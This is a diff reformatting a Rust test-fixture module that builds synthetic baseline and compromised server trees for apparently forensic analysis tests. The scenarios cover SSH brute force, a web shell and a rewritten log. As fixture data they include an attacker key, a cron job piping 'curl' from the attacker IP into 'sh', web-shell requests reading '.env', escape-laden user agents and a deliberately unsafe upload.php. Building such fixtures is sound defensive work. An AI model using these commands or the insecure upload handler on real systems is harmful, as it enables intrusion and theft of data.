@@ -28,7 +28,8 @@ pub const WEB_IP: &str = "198.18.0.5";
 pub const EVIL_KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMhhJrrh2As0R933V+kB61oC0UR6GtKnPbmdh/wDWvrV evil@attacker";
 pub const EVIL_FP: &str = "SHA256:nttAE2XK1PIkLukB3+13jsh1ds8oPtvIztlrKdwI9R4";
 /// The admin's own key (in the baseline).
-pub const ADMIN_KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBWq0ytn8b1yY7G8cVHGRq0dS8lrxqvqkF0rXJpZqv1O admin@laptop";
+pub const ADMIN_KEY: &str =
+    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBWq0ytn8b1yY7G8cVHGRq0dS8lrxqvqkF0rXJpZqv1O admin@laptop";
 
 /// A baseline and an incident tree of one host.
 pub struct Trees {
@@ -70,8 +71,18 @@ pub fn syslog(time: &str, prog: &str, msg: &str) -> String {
 }
 
 /// One combined-format access log line.
-pub fn access(ip: &str, time: &str, method: &str, path: &str, status: u16, bytes: u64, ua: &str) -> String {
-    format!("{ip} - - [{time} +0000] \"{method} {path} HTTP/1.1\" {status} {bytes} \"-\" \"{ua}\"\n")
+pub fn access(
+    ip: &str,
+    time: &str,
+    method: &str,
+    path: &str,
+    status: u16,
+    bytes: u64,
+    ua: &str,
+) -> String {
+    format!(
+        "{ip} - - [{time} +0000] \"{method} {path} HTTP/1.1\" {status} {bytes} \"-\" \"{ua}\"\n"
+    )
 }
 
 /// The normal life of the server before the incident.
@@ -79,10 +90,26 @@ fn baseline_auth() -> String {
     let mut s = String::new();
     for d in 1..=5 {
         let day = format!("2026-03-0{d}");
-        s += &syslog(&format!("{day}T09:00:00"), "sshd[1200]", "Accepted publickey for admin from 192.0.2.10 port 50122 ssh2: ED25519 SHA256:adminkeyfingerprint");
-        s += &syslog(&format!("{day}T09:00:00"), "sshd[1200]", "pam_unix(sshd:session): session opened for user admin(uid=1000) by (uid=0)");
-        s += &syslog(&format!("{day}T09:05:00"), "sudo", "   admin : TTY=pts/0 ; PWD=/home/admin ; USER=root ; COMMAND=/usr/bin/apt update");
-        s += &syslog(&format!("{day}T09:30:00"), "sshd[1200]", "pam_unix(sshd:session): session closed for user admin");
+        s += &syslog(
+            &format!("{day}T09:00:00"),
+            "sshd[1200]",
+            "Accepted publickey for admin from 192.0.2.10 port 50122 ssh2: ED25519 SHA256:adminkeyfingerprint",
+        );
+        s += &syslog(
+            &format!("{day}T09:00:00"),
+            "sshd[1200]",
+            "pam_unix(sshd:session): session opened for user admin(uid=1000) by (uid=0)",
+        );
+        s += &syslog(
+            &format!("{day}T09:05:00"),
+            "sudo",
+            "   admin : TTY=pts/0 ; PWD=/home/admin ; USER=root ; COMMAND=/usr/bin/apt update",
+        );
+        s += &syslog(
+            &format!("{day}T09:30:00"),
+            "sshd[1200]",
+            "pam_unix(sshd:session): session closed for user admin",
+        );
     }
     s
 }
@@ -90,7 +117,10 @@ fn baseline_auth() -> String {
 fn baseline_access() -> String {
     let mut s = String::new();
     for d in 1..=5 {
-        for (i, p) in ["/", "/index.html", "/css/site.css", "/contact.html"].iter().enumerate() {
+        for (i, p) in ["/", "/index.html", "/css/site.css", "/contact.html"]
+            .iter()
+            .enumerate()
+        {
             s += &access(
                 &format!("192.0.2.{}", 20 + i),
                 &format!("0{d}/Mar/2026:1{i}:00:00"),
@@ -121,17 +151,37 @@ fn common(root: &Path) {
         "etc/ssh/sshd_config",
         b"Include /etc/ssh/sshd_config.d/*.conf\nPort 22\nPermitRootLogin no\nPasswordAuthentication yes\nUsePAM yes\n",
     );
-    write(root, "etc/crontab", b"17 * * * * root cd / && run-parts --report /etc/cron.hourly\n");
+    write(
+        root,
+        "etc/crontab",
+        b"17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
+    );
     write(
         root,
         "srv/app/.env",
         format!("APP_NAME=shop\nAPP_ENV=production\nDB_HOST=127.0.0.1\nDB_USER=shop\nDB_PASSWORD={DB_PASSWORD}\n").as_bytes(),
     );
-    write(root, "srv/app/exports/clients.csv", clients_csv().as_bytes());
-    write(root, "var/www/html/index.html", b"<html><body>Shop</body></html>\n");
+    write(
+        root,
+        "srv/app/exports/clients.csv",
+        clients_csv().as_bytes(),
+    );
+    write(
+        root,
+        "var/www/html/index.html",
+        b"<html><body>Shop</body></html>\n",
+    );
     write(root, "var/www/html/upload.php", b"<?php move_uploaded_file($_FILES['f']['tmp_name'], 'uploads/' . basename($_FILES['f']['name'])); ?>\n");
-    write(root, "var/www/html/uploads/logo.png", b"\x89PNG\r\n\x1a\nfake");
-    write(root, "home/admin/.ssh/authorized_keys", format!("{ADMIN_KEY}\n").as_bytes());
+    write(
+        root,
+        "var/www/html/uploads/logo.png",
+        b"\x89PNG\r\n\x1a\nfake",
+    );
+    write(
+        root,
+        "home/admin/.ssh/authorized_keys",
+        format!("{ADMIN_KEY}\n").as_bytes(),
+    );
     write(root, "home/deploy/.profile", b"# ~/.profile\n");
 }
 
@@ -141,8 +191,16 @@ fn baseline_tree(root: &Path) {
     write(root, "etc/shadow", shadow("").as_bytes());
     write(root, "etc/group", group("").as_bytes());
     write(root, "var/log/auth.log", baseline_auth().as_bytes());
-    write(root, "var/log/nginx/access.log", baseline_access().as_bytes());
-    write(root, "root/.bash_history", b"apt update\nsystemctl status nginx\nless /var/log/nginx/error.log\n");
+    write(
+        root,
+        "var/log/nginx/access.log",
+        baseline_access().as_bytes(),
+    );
+    write(
+        root,
+        "root/.bash_history",
+        b"apt update\nsystemctl status nginx\nless /var/log/nginx/error.log\n",
+    );
     touch_all(root, "2026-03-05T12:00:00Z");
 }
 
@@ -154,34 +212,73 @@ fn ssh_attack_auth() -> String {
         s += &syslog(
             &format!("2026-03-10T08:0{m}:{sec:02}"),
             &format!("sshd[{}]", 2000 + i),
-            &format!("Failed password for deploy from {SSH_IP} port {} ssh2", 40000 + i),
+            &format!(
+                "Failed password for deploy from {SSH_IP} port {} ssh2",
+                40000 + i
+            ),
         );
     }
-    s += &syslog("2026-03-10T08:05:00", "sshd[2100]", &format!("Accepted password for deploy from {SSH_IP} port 40100 ssh2"));
-    s += &syslog("2026-03-10T08:05:00", "sshd[2100]", "pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)");
-    s += &syslog("2026-03-10T08:07:00", "sudo", "  deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash");
-    s += &syslog("2026-03-10T08:09:00", "useradd[2200]", "new user: name=backup2, UID=1002, GID=1002, home=/home/backup2, shell=/bin/bash, from=/dev/pts/0");
-    s += &syslog("2026-03-10T08:15:00", "sudo", "  deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/tar czf /tmp/.x.tgz /srv/app/exports");
-    s += &syslog("2026-03-10T08:20:00", "sshd[2100]", "pam_unix(sshd:session): session closed for user deploy");
+    s += &syslog(
+        "2026-03-10T08:05:00",
+        "sshd[2100]",
+        &format!("Accepted password for deploy from {SSH_IP} port 40100 ssh2"),
+    );
+    s += &syslog(
+        "2026-03-10T08:05:00",
+        "sshd[2100]",
+        "pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)",
+    );
+    s += &syslog(
+        "2026-03-10T08:07:00",
+        "sudo",
+        "  deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash",
+    );
+    s += &syslog(
+        "2026-03-10T08:09:00",
+        "useradd[2200]",
+        "new user: name=backup2, UID=1002, GID=1002, home=/home/backup2, shell=/bin/bash, from=/dev/pts/0",
+    );
+    s += &syslog(
+        "2026-03-10T08:15:00",
+        "sudo",
+        "  deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/tar czf /tmp/.x.tgz /srv/app/exports",
+    );
+    s += &syslog(
+        "2026-03-10T08:20:00",
+        "sshd[2100]",
+        "pam_unix(sshd:session): session closed for user deploy",
+    );
     s
 }
 
 /// The incident tree's files the SSH attacker changed.
 fn ssh_attack_files(root: &Path) {
-    write(root, "etc/passwd", passwd("backup2:x:1002:1002::/home/backup2:/bin/bash\n").as_bytes());
+    write(
+        root,
+        "etc/passwd",
+        passwd("backup2:x:1002:1002::/home/backup2:/bin/bash\n").as_bytes(),
+    );
     write(
         root,
         "etc/shadow",
         shadow("backup2:$y$j9T$backupsaltbacku$ddddddddddddddddddddddddddddddddddddddddddd:20522:0:99999:7:::\n").as_bytes(),
     );
     write(root, "etc/group", group("backup2:x:1002:\n").as_bytes());
-    write(root, "home/backup2/.ssh/authorized_keys", format!("{EVIL_KEY}\n").as_bytes());
+    write(
+        root,
+        "home/backup2/.ssh/authorized_keys",
+        format!("{EVIL_KEY}\n").as_bytes(),
+    );
     write(
         root,
         "etc/cron.d/backup2",
         format!("*/5 * * * * root curl -fsSL http://{SSH_IP}/u.sh | sh\n").as_bytes(),
     );
-    write(root, "tmp/.x.tgz", b"\x1f\x8b\x08\x00fake-archive-of-the-exports");
+    write(
+        root,
+        "tmp/.x.tgz",
+        b"\x1f\x8b\x08\x00fake-archive-of-the-exports",
+    );
     // History cleared.
     write(root, "root/.bash_history", b"");
     for (f, t) in [
@@ -207,8 +304,16 @@ pub fn ssh_bruteforce(dir: &Path) -> Trees {
     };
     baseline_tree(&t.baseline);
     common(&t.incident);
-    write(&t.incident, "var/log/auth.log", format!("{}{}", baseline_auth(), ssh_attack_auth()).as_bytes());
-    write(&t.incident, "var/log/nginx/access.log", baseline_access().as_bytes());
+    write(
+        &t.incident,
+        "var/log/auth.log",
+        format!("{}{}", baseline_auth(), ssh_attack_auth()).as_bytes(),
+    );
+    write(
+        &t.incident,
+        "var/log/nginx/access.log",
+        baseline_access().as_bytes(),
+    );
     touch_all(&t.incident, "2026-03-05T12:00:00Z");
     ssh_attack_files(&t.incident);
     touch(&t.incident, "var/log/auth.log", "2026-03-10T08:20:00Z");
@@ -229,7 +334,11 @@ pub fn web_shell(dir: &Path) -> Trees {
     write(&t.incident, "etc/shadow", shadow("").as_bytes());
     write(&t.incident, "etc/group", group("").as_bytes());
     write(&t.incident, "var/log/auth.log", baseline_auth().as_bytes());
-    write(&t.incident, "root/.bash_history", b"apt update\nsystemctl status nginx\nless /var/log/nginx/error.log\n");
+    write(
+        &t.incident,
+        "root/.bash_history",
+        b"apt update\nsystemctl status nginx\nless /var/log/nginx/error.log\n",
+    );
     write(
         &t.incident,
         "var/www/html/uploads/img.php",
@@ -248,16 +357,64 @@ pub fn web_shell(dir: &Path) -> Trees {
             "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000123)",
         );
     }
-    log += &access(WEB_IP, "10/Mar/2026:09:05:00", "POST", "/upload.php", 200, 512, ua);
-    log += &access(WEB_IP, "10/Mar/2026:09:06:00", "GET", "/uploads/img.php?cmd=id", 200, 54, ua);
-    log += &access(WEB_IP, "10/Mar/2026:09:07:00", "GET", "/uploads/img.php?cmd=cat+/srv/app/.env", 200, 120, ua);
+    log += &access(
+        WEB_IP,
+        "10/Mar/2026:09:05:00",
+        "POST",
+        "/upload.php",
+        200,
+        512,
+        ua,
+    );
+    log += &access(
+        WEB_IP,
+        "10/Mar/2026:09:06:00",
+        "GET",
+        "/uploads/img.php?cmd=id",
+        200,
+        54,
+        ua,
+    );
+    log += &access(
+        WEB_IP,
+        "10/Mar/2026:09:07:00",
+        "GET",
+        "/uploads/img.php?cmd=cat+/srv/app/.env",
+        200,
+        120,
+        ua,
+    );
     // A hostile user agent: terminal escapes must come out inert.
-    log += &access(WEB_IP, "10/Mar/2026:09:08:00", "GET", "/uploads/img.php?cmd=ls+/srv/app/exports", 200, 40, "evil\x1b[2J\x1b]0;pwned\x07agent");
-    log += &access(WEB_IP, "10/Mar/2026:09:10:00", "GET", "/exports/clients.csv", 200, 48213, ua);
+    log += &access(
+        WEB_IP,
+        "10/Mar/2026:09:08:00",
+        "GET",
+        "/uploads/img.php?cmd=ls+/srv/app/exports",
+        200,
+        40,
+        "evil\x1b[2J\x1b]0;pwned\x07agent",
+    );
+    log += &access(
+        WEB_IP,
+        "10/Mar/2026:09:10:00",
+        "GET",
+        "/exports/clients.csv",
+        200,
+        48213,
+        ua,
+    );
     write(&t.incident, "var/log/nginx/access.log", log.as_bytes());
     touch_all(&t.incident, "2026-03-05T12:00:00Z");
-    touch(&t.incident, "var/www/html/uploads/img.php", "2026-03-10T09:05:00Z");
-    touch(&t.incident, "var/log/nginx/access.log", "2026-03-10T09:10:00Z");
+    touch(
+        &t.incident,
+        "var/www/html/uploads/img.php",
+        "2026-03-10T09:05:00Z",
+    );
+    touch(
+        &t.incident,
+        "var/log/nginx/access.log",
+        "2026-03-10T09:10:00Z",
+    );
     t
 }
 
@@ -267,9 +424,21 @@ pub fn web_shell(dir: &Path) -> Trees {
 pub fn rewritten_log(dir: &Path) -> Trees {
     let t = ssh_bruteforce(dir);
     let mut s = String::new();
-    s += &syslog("2026-03-10T10:00:00", "sshd[3000]", "Accepted publickey for admin from 192.0.2.10 port 50200 ssh2: ED25519 SHA256:adminkeyfingerprint");
-    s += &syslog("2026-03-10T10:00:00", "sshd[3000]", "pam_unix(sshd:session): session opened for user admin(uid=1000) by (uid=0)");
-    s += &syslog("2026-03-10T10:20:00", "sshd[3000]", "pam_unix(sshd:session): session closed for user admin");
+    s += &syslog(
+        "2026-03-10T10:00:00",
+        "sshd[3000]",
+        "Accepted publickey for admin from 192.0.2.10 port 50200 ssh2: ED25519 SHA256:adminkeyfingerprint",
+    );
+    s += &syslog(
+        "2026-03-10T10:00:00",
+        "sshd[3000]",
+        "pam_unix(sshd:session): session opened for user admin(uid=1000) by (uid=0)",
+    );
+    s += &syslog(
+        "2026-03-10T10:20:00",
+        "sshd[3000]",
+        "pam_unix(sshd:session): session closed for user admin",
+    );
     write(&t.incident, "var/log/auth.log", s.as_bytes());
     touch(&t.incident, "var/log/auth.log", "2026-03-10T10:20:00Z");
     t
